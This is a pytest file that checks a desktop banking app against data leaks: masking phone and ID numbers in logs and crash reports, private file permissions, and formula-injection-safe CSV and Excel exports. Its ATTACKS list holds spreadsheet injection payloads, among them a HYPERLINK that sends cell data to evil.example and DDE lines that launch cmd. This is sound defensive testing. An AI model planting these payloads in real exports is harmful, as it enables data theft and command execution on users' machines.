"""What leaks (issue 12), tried as an attacker would: personal data in logs and crash reports, files other
accounts on the PC can read, spreadsheet cells that run, on both databases where a database is involved."""

from __future__ import annotations

import csv
import io
import logging
import os
import stat
import subprocess
import sys
from dataclasses import replace
from datetime import date
from decimal import Decimal
from pathlib import Path

import openpyxl
import pytest
from sqlalchemy import text
from sqlalchemy.exc import IntegrityError

from db import files
from db.session import Database
from desktop import logs
from domain.text import spreadsheet_cell
from reports import tables
from reports.performance_xlsx import build_performance_workbook
from tests.factories import add_staff
from tests.reports import performance_samples as samples

ROOT = Path(__file__).resolve().parents[2]
PHONE = "13987654321"
ID_NUMBER = "110105198005170019"
ADDRESS = "北京市朝阳区幸福路88号3单元"
# A NOT NULL violation: PostgreSQL quotes the whole failing row (phone, address, ID number) back in the error.
INSERT = text(
    "INSERT INTO customers (customer_no, branch_id, name, phone, address, employer) "
    "VALUES ('C0000000099', :branch, NULL, :phone, :address, :id_number)"
)


def _force_database_error(db: Database) -> IntegrityError:
    with db.write() as uow:
        branch = uow.session.execute(text("SELECT id FROM branches")).scalar_one()
    with pytest.raises(IntegrityError) as caught, db.write() as uow:
        uow.session.execute(
            INSERT, {"branch": branch, "phone": PHONE, "address": ADDRESS, "id_number": ID_NUMBER}
        )
    return caught.value


@pytest.fixture
def log_file(tmp_path):
    handler = logs.file_handler(tmp_path / "logs")
    root = logging.getLogger()
    root.addHandler(handler)
    yield tmp_path / "logs" / logs.LOG_NAME
    root.removeHandler(handler)
    handler.close()


def _personal(text_: str) -> list[str]:
    return [value for value in (PHONE, ADDRESS, ID_NUMBER, "幸福路") if value in text_]


def test_a_database_error_carrying_a_phone_never_reaches_the_log_or_the_crash_report(db, log_file):
    add_staff(db)
    error = _force_database_error(db)
    assert PHONE not in str(error).split("DETAIL")[0]  # the engine hides bound parameters
    report = logs.report_crash(error)
    log = logging.getLogger("branchdesk.test")
    log.warning("daily job failed: %s", error)
    try:
        raise RuntimeError("saving the customer failed") from error
    except RuntimeError:
        log.exception("a screen's save failed")
    written = log_file.read_text(encoding="utf-8")
    assert _personal(report) == [] and _personal(written) == []
    # Still useful to whoever fixes it: the kind of failure, the table, the SQL without values.
    assert "IntegrityError" in report and "INSERT INTO customers" in report
    assert "saving the customer failed" in written and written.count("Traceback") >= 2


def test_the_command_line_crash_report_is_redacted_too(db_url, db, tmp_path):
    add_staff(db)
    script = (
        "import sys\n"
        "from desktop import logs\n"
        "from db.session import Database\n"
        "from tests.desktop.test_leaks import _force_database_error\n"
        "logs.setup()\n"
        "sys.excepthook = logs.cli_excepthook\n"
        "import pytest\n"
        "db = Database(sys.argv[1])\n"
        "with db.write() as uow:\n"
        "    from sqlalchemy import text\n"
        "    branch = uow.session.execute(text('SELECT id FROM branches')).scalar_one()\n"
        "with db.write() as uow:\n"
        "    from tests.desktop.test_leaks import INSERT, PHONE, ADDRESS, ID_NUMBER\n"
        "    uow.session.execute(INSERT, {'branch': branch, 'phone': PHONE, 'address': ADDRESS,"
        " 'id_number': ID_NUMBER})\n"
    )
    env = dict(os.environ, BRANCHDESK_DATA_DIR=str(tmp_path / "data"), PYTHONIOENCODING="utf-8")
    done = subprocess.run(
        [sys.executable, "-c", script, db_url], cwd=ROOT, env=env, capture_output=True, text=True, timeout=120
    )
    assert done.returncode == 1 and "IntegrityError" in done.stderr
    written = (tmp_path / "data" / "logs" / logs.LOG_NAME).read_text(encoding="utf-8")
    assert "IntegrityError" in written
    assert _personal(done.stderr) == [] and _personal(written) == []


def test_any_log_line_has_mobile_and_id_numbers_masked(log_file):
    logging.getLogger("branchdesk.test").warning("lookup %s / %s failed", PHONE, ID_NUMBER)
    written = log_file.read_text(encoding="utf-8")
    assert "139****4321" in written and "1101**********0019" in written and _personal(written) == []


# -- files other accounts could read --------------------------------------------------------------------------


def _mode(path: Path) -> int:
    return stat.S_IMODE(path.stat().st_mode)


@pytest.fixture
def open_umask():
    """The most careless umask there is: anything left to it would be world-writable."""
    previous = os.umask(0)
    yield
    os.umask(previous)


@pytest.mark.skipif(sys.platform == "win32", reason="Windows: the profile's access lists apply")
def test_data_folder_database_and_logs_are_private_whatever_the_umask(tmp_path, monkeypatch, open_umask):
    data = tmp_path / "profile" / "branchdesk"
    monkeypatch.setenv("BRANCHDESK_DATA_DIR", str(data))
    db = Database()
    try:
        from db import schema

        schema.upgrade(db)
        add_staff(db)  # a write: the -wal and -shm files exist now
        database = data / "branchdesk.db"
        assert _mode(data) == 0o700
        assert _mode(database) == 0o600
        for suffix in ("-wal", "-shm"):
            sidecar = Path(str(database) + suffix)
            if sidecar.exists():
                assert _mode(sidecar) == 0o600, suffix
        handler = logs.file_handler(logs.log_dir())
        handler.emit(logging.makeLogRecord({"msg": "hello"}))
        handler.close()
        assert _mode(logs.log_dir()) == 0o700 and _mode(logs.log_dir() / logs.LOG_NAME) == 0o600
    finally:
        db.dispose()


@pytest.mark.skipif(sys.platform == "win32", reason="Windows: the profile's access lists apply")
def test_an_existing_world_readable_database_is_tightened_when_opened(tmp_path, monkeypatch):
    data = tmp_path / "data"
    data.mkdir(mode=0o755)
    os.chmod(data, 0o755)
    database = data / "branchdesk.db"
    database.touch()
    os.chmod(database, 0o644)
    monkeypatch.setenv("BRANCHDESK_DATA_DIR", str(data))
    Database().dispose()
    assert _mode(data) == 0o700 and _mode(database) == 0o600


@pytest.mark.skipif(sys.platform == "win32", reason="Windows: the profile's access lists apply")
def test_documents_are_written_private_even_over_a_readable_file(tmp_path, open_umask):
    target = tmp_path / "agreement.pdf"
    target.write_bytes(b"old")
    os.chmod(target, 0o666)
    files.write_private(target, b"%PDF-1.4 ...")
    assert _mode(target) == 0o600 and target.read_bytes() == b"%PDF-1.4 ..."
    fresh = tmp_path / "receipt.pdf"
    files.write_private(fresh, b"%PDF")
    assert _mode(fresh) == 0o600


# -- spreadsheet cells that would run ----------------------------------------------------------------------

ATTACKS = ['=HYPERLINK("http://evil.example/?"&A1,"查看")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
           "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "＝1+1"]  # fmt: skip


@pytest.mark.parametrize("attack", ATTACKS)
def test_a_cell_that_would_run_is_written_as_text(attack):
    assert spreadsheet_cell(attack) == "'" + attack


@pytest.mark.parametrize(
    "value", [-1500, Decimal("-1500.00"), "-1500.00", "+86", "张三", "", None, date(2026, 1, 1)]
)
def test_numbers_and_plain_text_are_left_alone(value):
    assert spreadsheet_cell(value) == value


def test_csv_and_excel_exports_neutralise_every_cell():
    rows = [[1, name, Decimal("-20.50")] for name in ATTACKS]
    text_ = tables.csv_bytes(["rank", "name", "amount"], rows).decode("utf-8-sig")
    parsed = list(csv.reader(io.StringIO(text_, newline="")))
    assert [row[1] for row in parsed[1:]] == ["'" + attack for attack in ATTACKS]
    assert {row[2] for row in parsed[1:]} == {"-20.50"}
    book = openpyxl.load_workbook(io.BytesIO(tables.xlsx_bytes("t", ["rank", "name", "amount"], rows)))
    cells = [c for row in book.active.iter_rows(min_row=2) for c in row]
    assert not any(c.data_type == "f" for c in cells)
    assert all(c.value.startswith("'") for c in cells if c.column == 2)
    assert {c.value for c in cells if c.column == 3} == {Decimal("-20.50")} or all(
        c.value == -20.5 for c in cells if c.column == 3
    )


def test_the_performance_workbook_runs_no_formula_from_a_name():
    card = replace(
        samples.manager_card(), bank_name='=HYPERLINK("http://evil.example","点击")', scope_name="@SUM(1)"
    )
    book = openpyxl.load_workbook(io.BytesIO(build_performance_workbook(card)))
    cells = [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row if c.value is not None]
    assert not any(c.data_type == "f" for c in cells)
    assert any(isinstance(c.value, str) and c.value.startswith("'=HYPERLINK") for c in cells)
    # Negative figures stay numbers a spreadsheet can add up.
    assert any(isinstance(c.value, int | float) and c.value < 0 for c in cells)
